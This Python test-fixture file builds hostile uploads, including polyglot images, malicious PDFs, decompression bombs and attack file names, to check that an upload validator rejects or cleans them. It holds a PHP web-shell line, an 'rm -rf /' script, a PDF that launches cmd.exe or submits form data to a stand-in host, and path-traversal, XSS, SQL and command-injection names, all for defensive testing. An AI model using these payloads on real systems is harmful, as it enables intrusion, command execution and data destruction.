"""Files no honest person sends, and what becomes of each.

Those in SURAT go through the letter of an application (photo or PDF), the others through the photo
of an instrument. `hasil` is the beginning of the sentence it is refused with, or what is stored of
it: "jpg" is our own drawing of the picture, "pdf" a file that only ever is downloaded.
"""

import gzip
import random
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests import berkas as b

KOSONG = "Berkas ini kosong"
JENIS = "Jenis berkas ini belum dapat diterima"
AKHIRAN = "Namanya berakhiran ."
KANTOR = "Ini dokumen Word, Excel, atau ZIP"
BESAR = "Berkas ini berukuran"
PIKSEL = "Jumlah piksel foto ini terlalu banyak"
FOTO_RUSAK = "Foto ini terpotong atau rusak"
BUKAN_FOTO = "Berkas ini PDF, sedangkan di sini diminta"
DIDAHULUI = "PDF ini didahului isi lain"
BEREKOR = "PDF ini diikuti isi lain"
PDF_RUSAK = "PDF ini terpotong atau rusak"
TERKUNCI = "PDF ini terkunci kata sandi"
SKRIP = "PDF ini berisi skrip JavaScript"
PERINTAH = "PDF ini berisi perintah yang membuka program"
LAMPIRAN = "PDF ini membawa berkas lain"
MEDIA = "PDF ini berisi video"
XFA = "PDF ini formulir XFA"
HALAMAN = "PDF ini berisi 302 halaman"
RUMIT = "Isi PDF ini terlalu rumit"
JPG, PDF = "jpg", "pdf"


@dataclass(frozen=True)
class Kasus:
    """One hostile file: made when asked for, as some are large."""

    sebutan: str
    nama: str
    isi: Callable[[], bytes]
    hasil: str
    surat: bool = False

    def __str__(self) -> str:
        return self.sebutan


def k(sebutan: str, nama: str, isi: Callable[[], bytes] | bytes, hasil: str) -> Kasus:
    buat = isi if callable(isi) else (lambda: isi)
    return Kasus(sebutan, nama, buat, hasil)


def s(sebutan: str, isi: Callable[[], bytes] | bytes, hasil: str, nama: str = "surat.pdf") -> Kasus:
    return Kasus(sebutan, nama, k("", "", isi, "").isi, hasil, surat=True)


def _aksi(jenis: str, **lain: Any) -> Callable[[], bytes]:
    return lambda: b.pdf_aksi(Dictionary(S=Name("/" + jenis), **lain))


def _anotasi(subjenis: str, **lain: Any) -> Callable[[], bytes]:
    return lambda: b.pdf_anotasi(Dictionary(Type=Name.Annot, Subtype=Name("/" + subjenis), **lain))


def _tautan(tujuan: str) -> Callable[[], bytes]:
    return lambda: b.pdf_tautan(tujuan)


MZ = b"MZ\x90\x00\x03" + bytes(300)
ELF = b"\x7fELF\x02\x01\x01" + bytes(300)
PHP = b"<?php system($_GET['c']); ?>"
MAKS = 12 << 20

# Types under wrong names, and names that claim nothing.
SALAH_JENIS = [
    k("html", "a.html", b.html, JENIS),
    k("html bernama jpg", "a.jpg", b.html, AKHIRAN),
    k("html bernama png", "a.PNG", b.html, AKHIRAN),
    k("xhtml tanpa akhiran", "foto", b'<html xmlns="http://www.w3.org/1999/xhtml"/>', JENIS),
    k("svg berskrip", "a.svg", b.svg, JENIS),
    k("svg bernama jpg", "a.jpg", b.svg, AKHIRAN),
    k("svg padat", "a.svgz", lambda: gzip.compress(b.svg()), JENIS),
    k("bom xml", "a.xml", b.xml_bom, JENIS),
    k("bom xml bernama webp", "a.webp", b.xml_bom, AKHIRAN),
    k("php", "a.php", PHP, JENIS),
    k("php bernama jpg", "a.jpg", PHP, AKHIRAN),
    k("program Windows", "a.exe", MZ, JENIS),
    k("program Windows bernama jpg", "foto.jpg.exe", MZ, JENIS),
    k("program Linux bernama png", "a.png", ELF, AKHIRAN),
    k("skrip shell", "a.sh", b"#!/bin/sh\nrm -rf /\n", JENIS),
    k("pintasan Windows", "a.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(80), JENIS),
    k("javascript", "a.js", b"alert(1)", JENIS),
    k("wasm", "a.wasm", b"\0asm\x01\0\0\0", JENIS),
    k("kelas java", "a.class", b"\xca\xfe\xba\xbe\0\0\0\x34", JENIS),
    k("htaccess", ".htaccess", b"AddType application/x-httpd-php .jpg", JENIS),
    k("mhtml", "a.mht", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + b.html(), JENIS),
    k("gif", "a.gif", b.gif, JENIS),
    k("gif bernama jpg", "a.jpg", b.gif, AKHIRAN),
    k("gif yang juga skrip", "a.gif", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", JENIS),
    k("bmp", "a.bmp", b"BM" + bytes(60), JENIS),
    k("tiff", "a.tif", b"II*\0" + bytes(60), JENIS),
    k("psd", "a.psd", b"8BPS" + bytes(60), JENIS),
    k("postscript bernama jpg", "a.jpg", b"%!PS-Adobe-3.0\n(/etc/passwd) run", AKHIRAN),
    k("imagemagick mvg", "a.jpg", b"push graphic-context\nimage over 0,0 0,0 'url(|id)'", AKHIRAN),
    k("mp4", "a.mp4", b"\0\0\0\x18ftypisom" + bytes(40), JENIS),
    k("avif", "a.avif", b"\0\0\0\x18ftypavif" + bytes(40), JENIS),
    k("heic tanpa isi", "IMG_1.HEIC", b.heic_rusak, FOTO_RUSAK),
    k("docx", "a.docx", b.docx, KANTOR),
    k("xls lama bernama jpg", "a.jpg", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99), KANTOR),
    k("jar", "a.jar", b.zip_berisi, KANTOR),
    k("bom zip", "a.zip", lambda: b.zip_berisi("a", bytes(50 << 20)), KANTOR),
    k("bom gzip", "a.gz", lambda: gzip.compress(bytes(20 << 20)), JENIS),
    k("pdf di tempat foto", "a.pdf", b.pdf, BUKAN_FOTO),
]
# Broken, empty, too large.
RUSAK = [
    k("nol bita", "a.jpg", b"", KOSONG),
    k("satu bita", "a.jpg", b"\xff", AKHIRAN),
    k("kepala jpg saja", "a.jpg", b"\xff\xd8\xff", FOTO_RUSAK),
    k("jpg terpotong", "a.jpg", lambda: b.jpeg()[:-2000], FOTO_RUSAK),
    k("kepala png saja", "a.png", b"\x89PNG\r\n\x1a\n", FOTO_RUSAK),
    k("png terpotong", "a.png", lambda: b.png()[:-500], FOTO_RUSAK),
    k("png beda jumlah periksa", "a.png", lambda: b.png().replace(b"IDAT", b"IDAU", 1), FOTO_RUSAK),
    k("png nol piksel", "a.png", lambda: b.png_ukuran(0, 0), FOTO_RUSAK),
    k("png tanpa isi", "a.png", lambda: b.png_ukuran(500, 500), FOTO_RUSAK),
    k("webp terpotong", "a.webp", lambda: b.webp()[:-300], FOTO_RUSAK),
    k("bom png 900 MP", "a.png", b.png_bom, PIKSEL),
    k("png mengaku 4 miliar piksel", "a.png", lambda: b.png_ukuran(65_000, 65_000), PIKSEL),
    k("png selebar-lebarnya", "a.png", lambda: b.png_ukuran(2**31 - 1, 1), PIKSEL),
    k("jpg mengaku 4 miliar piksel", "a.jpg", lambda: b.jpeg_ukuran(65_500, 65_500), PIKSEL),
    k("webp mengaku 268 MP", "a.webp", b.webp_ukuran, PIKSEL),
    k("bom komentar png", "a.png", b.png_teks_bom, FOTO_RUSAK),
    k("terlalu besar", "a.jpg", lambda: b.jpeg() + bytes(MAKS), BESAR),
    k("terlalu besar, bukan foto", "a.bin", lambda: bytes(MAKS + 1), BESAR),
]
# Pictures that are something else as well: our drawing of them is stored, the rest is gone.
DWIMUKA = [
    k("jpg berekor zip", "a.jpg", lambda: b.jpeg() + b.zip_berisi(), JPG),
    k("jpg berekor html", "a.jpg", lambda: b.jpeg() + b.html(), JPG),
    k("jpg berekor php", "a.php.jpg", lambda: b.jpeg() + PHP, JPG),
    k("jpg berkomentar skrip", "a.jpg", lambda: b.jpeg_komentar(b.SKRIP), JPG),
    k("jpg yang juga pdf", "a.jpg", lambda: b.jpeg_komentar(b.pdf()), DIDAHULUI),
    k("jpg berekor pdf", "a.jpg", lambda: b.jpeg() + b.pdf(), JPG),
    k("jpg bernama html", "a.html", lambda: b.jpeg(), JPG),
    k("jpg bernama svg", "a.svg", lambda: b.jpeg(), JPG),
    k("jpg dengan tempat", "a.jpg", lambda: b.jpeg(exif=b.exif_gps()), JPG),
    k("png berekor skrip", "a.png", lambda: b.png() + b.SKRIP, JPG),
    k("png berteks skrip", "a.png",
      lambda: b.png_dengan(b.bagian_png(b"tEXt", b"Comment\0" + b.SKRIP)), JPG),
    k("png berekor jar", "a.png", lambda: b.png() + b.zip_berisi(), JPG),
    k("png bergerak", "a.png", b.apng, JPG),
    k("webp berekor skrip", "a.webp", lambda: b.webp() + b.SKRIP, JPG),
    k("dua gambar dalam satu jpg", "a.jpg", b.mpo, JPG),
]  # fmt: skip


def _kunci_menyamar() -> bytes:
    """/JavaScript and /JS spelled with escapes."""
    return b.pdf_mentah(b"/OpenAction 4 0 R", b"<< /S /#4aava#53cript /J#53 (app.alert\\(1\\)) >>")


def _melingkar() -> bytes:
    """Dictionaries that hold each other, and a page tree that holds itself."""
    return b.pdf_mentah(b"/A 4 0 R", b"<< /B 5 0 R >>", b"<< /A 4 0 R /JS (x) >>")


def _pohon_melingkar() -> bytes:
    return b.pdf_mentah(b"").replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")


def _sarang() -> bytes:
    return b.pdf_mentah(b"/A " + b"[" * 5000 + b"]" * 5000)


def _isi_bom() -> bytes:
    """A content stream of 64 MB in 60 KB."""

    def ubah(d: pikepdf.Pdf) -> None:
        d.pages[0].obj.Contents = d.make_stream(b" " * (64 << 20))

    return b.pdf(ubah=ubah)


def _aksi_halaman() -> bytes:
    aksi = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("x")))
    return b.pdf(ubah=lambda d: d.pages[0].obj.__setattr__("AA", aksi))


def _isian_berskrip() -> bytes:
    """A form field that computes."""
    isian = Dictionary(
        T=String("a"), AA=Dictionary(C=Dictionary(S=Name.JavaScript, JS=String("x")))
    )
    formulir = Dictionary(Fields=Array([isian]))
    return b.pdf(ubah=lambda d: d.Root.__setattr__("AcroForm", formulir))


def _berantai() -> bytes:
    """Harmless first, the program after it."""
    nanti = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    return b.pdf_aksi(Dictionary(S=Name.GoTo, D=Array([]), Next=Array([nanti])))


def _komentar_html() -> bytes:
    """A page for a browser that guesses; for us a comment after the first line."""
    return b.pdf_mentah(b"", komentar=b.html())


def _acak(panjang: int) -> bytes:
    """Cannot be compressed, and is the same each time."""
    return random.Random(1).randbytes(panjang)  # noqa: S311


SURAT = [
    s("skrip saat dibuka", b.pdf_js, SKRIP),
    s("skrip bernama", b.pdf_js_bernama, SKRIP),
    s("skrip yatim dalam aliran padat", b.pdf_js_yatim, SKRIP),
    s("skrip bernama samaran", _kunci_menyamar, SKRIP),
    s("skrip pada halaman", _aksi_halaman, SKRIP),
    s("skrip pada isian", _isian_berskrip, SKRIP),
    s("skrip dalam lingkaran", _melingkar, SKRIP),
    s("tautan javascript", _tautan("javascript:alert(1)"), SKRIP),
    s("tautan javascript berspasi", _tautan(" JaVa\nScript:alert(1)"), SKRIP),
    s("tautan data", _tautan("data:text/html,<script>1</script>"), SKRIP),
    s("buka program", _aksi("Launch", F=String("cmd.exe")), PERINTAH),
    s("buka program, berantai", _berantai, PERINTAH),
    s("kirim isian", _aksi("SubmitForm", F=String("https://jahat.test")), PERINTAH),
    s("ambil isian", _aksi("ImportData", F=String("a.fdf")), PERINTAH),
    s("lompat ke berkas lain", _aksi("GoToR", F=String("\\\\jahat\\a")), PERINTAH),
    s("lompat ke lampiran", _aksi("GoToE", T=Dictionary()), LAMPIRAN),
    s("lampiran", b.pdf_lampiran, LAMPIRAN),
    s("lampiran sebagai catatan", _anotasi("FileAttachment"), LAMPIRAN),
    s("media kaya", _anotasi("RichMedia"), MEDIA),
    s("film", _anotasi("Movie"), MEDIA),
    s("bunyi", _anotasi("Sound"), MEDIA),
    s("layar", _anotasi("Screen"), MEDIA),
    s("benda 3D", _anotasi("3D"), MEDIA),
    s("formulir XFA", b.pdf_xfa, XFA),
    s("bersandi", b.pdf_terenkripsi, TERKUNCI),
    s("dikunci pemiliknya", lambda: b.pdf_terenkripsi(""), TERKUNCI),
    s("302 halaman", lambda: b.pdf(302), HALAMAN),
    s("terlalu banyak objek", b.pdf_banyak_objek, RUMIT),
    s("terlalu banyak butir", b.pdf_banyak_butir, RUMIT),
    s("bom objek", b.pdf_bom, PDF_RUSAK),
    s("sarang dalam", _sarang, PDF_RUSAK),
    s("pohon halaman melingkar", _pohon_melingkar, PDF_RUSAK),
    s("tanpa halaman", lambda: b.pdf(0), PDF_RUSAK),
    s("terpotong", lambda: b.pdf(3)[:-200], PDF_RUSAK),
    s("kepala saja", b"%PDF-1.7\n", PDF_RUSAK),
    s("kepala dan sampah", b"%PDF-1.7\n" + bytes(9999) + b"startxref\n9\n%%EOF", PDF_RUSAK),
    s("didahului html", lambda: b.html() + b.pdf(), DIDAHULUI),
    s("didahului gif", lambda: b"GIF89a" + bytes(90) + b.pdf(), DIDAHULUI),
    s("berekor html", lambda: b.pdf() + b.html() * 60, BEREKOR),
    s("berekor zip", lambda: b.pdf() + b.zip_berisi(isi=_acak(3000)), BEREKOR),
    s("html bernama pdf", b.html, AKHIRAN),
    s("docx bernama pdf", b.docx, KANTOR),
    s("pdf bernama jpg", b.pdf, PDF, "a.jpg"),
    s("pdf bernama html", b.pdf, PDF, "a.html"),
    s("berekor zip kecil", lambda: b.pdf() + b.zip_berisi(), PDF),
    s("html dalam komentar", _komentar_html, PDF),
    s("isi 64 MB", _isi_bom, PDF),
]  # fmt: skip

KASUS = [*SALAH_JENIS, *RUSAK, *DWIMUKA, *SURAT]

# Names of an honest photo. None may reach a path, a header line or a page as it is.
NAMA = [
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\a.jpg",
    "/etc/cron.d/a.jpg",
    "C:\\a.jpg",
    "a\0.jpg",
    "a.jpg\0.html",
    "\u202egpj.exe",
    "a\u2066b\u2069.jpg",
    "\ufeffa\u200b.jpg",
    "a" * 5000 + ".jpg",
    "計量器 фото 📷 é.jpg",
    "a\u0301" * 300 + ".jpg",
    'a"; filename="b.html',
    "a.jpg\r\nSet-Cookie: x=1",
    "a.jpg\nX: y",
    "<script>alert(1)</script>.jpg",
    "\"><img src=x onerror=alert(1)>.jpg",
    "{{ 7*7 }}{% include '/etc/passwd' %}.jpg",
    "%2e%2e%2fa.jpg",
    "a%0d%0aX: y.jpg",
    ".",
    "..",
    "...",
    "   ",
    ".htaccess",
    "CON.jpg",
    "a.jpg:Zone.Identifier",
    "a.php;.jpg",
    "';DROP TABLE berkas;--.jpg",
    "$(id).jpg",
    "=cmd|'/c calc'!A1.jpg",
]  # fmt: skip
